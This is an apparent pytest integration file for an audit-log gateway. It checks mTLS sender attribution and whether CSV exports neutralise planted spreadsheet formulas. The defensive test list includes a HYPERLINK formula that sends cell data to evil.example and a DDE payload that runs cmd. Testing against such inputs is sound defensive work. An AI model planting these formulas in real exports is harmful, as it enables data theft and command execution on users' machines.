"""StoreLog records keep who sent them; a formula planted in a record never runs from a CSV extract."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from sqlalchemy.orm import Session, sessionmaker

from cli import main
from cli.pdl import write_records
from cli.serve import load_demo_directory
from cli.settings import Settings
from cli.tls import server_context
from cli.wiring import gateway_deps
from contracts.ns import STORE_LOG_V2
from domain.pdl import PdlQuery
from gateway import make_app
from routing.catalogue import AccessRight, Catalogue, Route
from routing.formats import parse_csv, rows_as_csv
from routing.provider import StaticProvider
from store import pdl
from store.session import transaction
from tests.integration.gateway_server import plain_session
from tests.integration.tls_server import serving_tls
from tests.pki import ALLOWED, build_pki
from tests.security.test_pdl_forgery import record
from tests.store_log_envelopes import store_log_envelope

STORE_LOG_PATH = "/informationsecurity/auditing/log/StoreLog/2/rivtabp21"
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
            "=cmd|' /C calc'!A0"]  # fmt: skip


def test_store_log_records_keep_the_authenticated_sender_and_search_finds_them(
    db_url: str, session_factory: sessionmaker[Session], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pki = build_pki(tmp_path, datetime.now(UTC))
    settings = Settings(database_url=db_url, tls_cert=pki.server.cert, tls_key=pki.server.key,
                        tls_client_ca=pki.trusted_roots)  # fmt: skip
    load_demo_directory(db_url)
    granted = StaticProvider(Catalogue(rights=[AccessRight(ALLOWED, STORE_LOG_V2, "*")]))
    deps = gateway_deps(settings, catalogue=granted)
    try:
        with serving_tls(make_app(deps), server_context(settings)) as url:
            session = plain_session()
            session.verify, session.cert = (
                pki.trusted_roots[0],
                (pki.clients["allowed"].cert, pki.clients["allowed"].key),
            )
            response = session.post(url + STORE_LOG_PATH, data=store_log_envelope(), timeout=10,
                                    headers={"Content-Type": "text/xml; charset=utf-8"})  # fmt: skip
    finally:
        deps.close()
    assert response.status_code == 200 and ">OK<" in response.text
    with transaction(session_factory) as tx:
        found = pdl.search(tx, PdlQuery(consumer_id=ALLOWED.lower()))
        assert pdl.search(tx, PdlQuery(consumer_id="SE2321000016-SOMEONE")) == []
    assert found and {(r.consumer_id, r.consumer_auth) for r in found} == {(ALLOWED, "mtls")}
    assert main(["pdl", "search", "--db", db_url, "--consumer", ALLOWED, "--format", "json"]) == 0
    assert f'"consumer_id": "{ALLOWED}"' in capsys.readouterr().out


def test_a_planted_formula_is_neutralised_in_the_csv_extract(
    db_url: str, session_factory: sessionmaker[Session], capsys: pytest.CaptureFixture[str]
) -> None:
    with transaction(session_factory) as tx:
        pdl.append_all(tx, [replace(record(n), user_title=formula, activity_level=formula)
                            for n, formula in enumerate(FORMULAS, start=1)])  # fmt: skip
    assert main(["pdl", "search", "--db", db_url, "--patient", "191212121212", "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert len(rows) == len(FORMULAS)
    for row, formula in zip(rows, FORMULAS, strict=True):
        for column in ("user_title", "activity_level"):
            assert row[column] == "'" + formula and not row[column].startswith(("=", "+", "-", "@", "\t", "\r"))
    out = io.StringIO()
    write_records([record(1)], "csv", out)
    assert "'" not in out.getvalue().split("\n", 1)[1].split(",")[0]  # plain values stay as they are


def test_the_routing_csv_export_is_neutralised_and_reads_back_unchanged() -> None:
    start, end = date(2026, 1, 1), date(2027, 1, 1)
    routes = [Route("urn:x", "=SUM(1)", "https://journal.example/x", producer="@evil", valid_from=start, valid_to=end)]
    rights = [AccessRight("-consumer", "urn:x", "+addr", start, end)]
    text = rows_as_csv(routes, rights)
    assert "'=SUM(1)" in text and "'@evil" in text and "'-consumer" in text and "'+addr" in text
    parsed = parse_csv(text).content
    assert parsed.routes[0].logical_address == "=SUM(1)" and parsed.rights[0].consumer == "-consumer"
